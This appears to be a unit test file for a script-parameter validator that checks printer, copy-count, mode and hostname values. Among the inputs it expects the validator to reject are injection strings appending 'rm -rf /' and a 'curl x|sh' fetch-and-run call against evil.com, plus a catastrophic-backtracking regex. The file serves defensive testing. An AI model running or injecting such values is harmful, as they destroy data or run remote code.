import { checkScriptParameters, ScriptParameters } from './script-parameters';

const declared = ScriptParameters.parse({
  printer: { type: 'string', required: true, maxLength: 20 },
  copies: { type: 'integer', min: 1, max: 5 },
  mode: { type: 'enum', values: ['fast', 'safe'] },
  server: { type: 'hostname' },
});

it('accepts values that fit their declarations', () => {
  expect(checkScriptParameters(declared, { printer: 'HP-2F', copies: '3', mode: 'safe', server: 'print01.acme.local' })).toBeNull();
});

it.each([
  [{}, /"printer" is required/],
  [{ printer: 'x', extra: '1' }, /takes no parameter "extra"/],
  [{ printer: 'x'.repeat(21) }, /longer than 20/],
  [{ printer: 'x', copies: '9' }, /between 1 and 5/],
  [{ printer: 'x', copies: '2; rm -rf /' }, /whole number/],
  [{ printer: 'x', mode: 'yolo' }, /one of fast, safe/],
  [{ printer: 'x', server: 'evil.com; curl x|sh' }, /host name/],
])('refuses %j', (given, why) => {
  expect(checkScriptParameters(declared, given as Record<string, string>)).toMatch(why);
});

it('refuses declarations it does not know, and bad parameter names', () => {
  expect(ScriptParameters.safeParse({ p: { type: 'regex', pattern: '(a+)+$' } }).success).toBe(false);
  expect(ScriptParameters.safeParse({ 'Bad-Name': { type: 'string' } }).success).toBe(false);
});
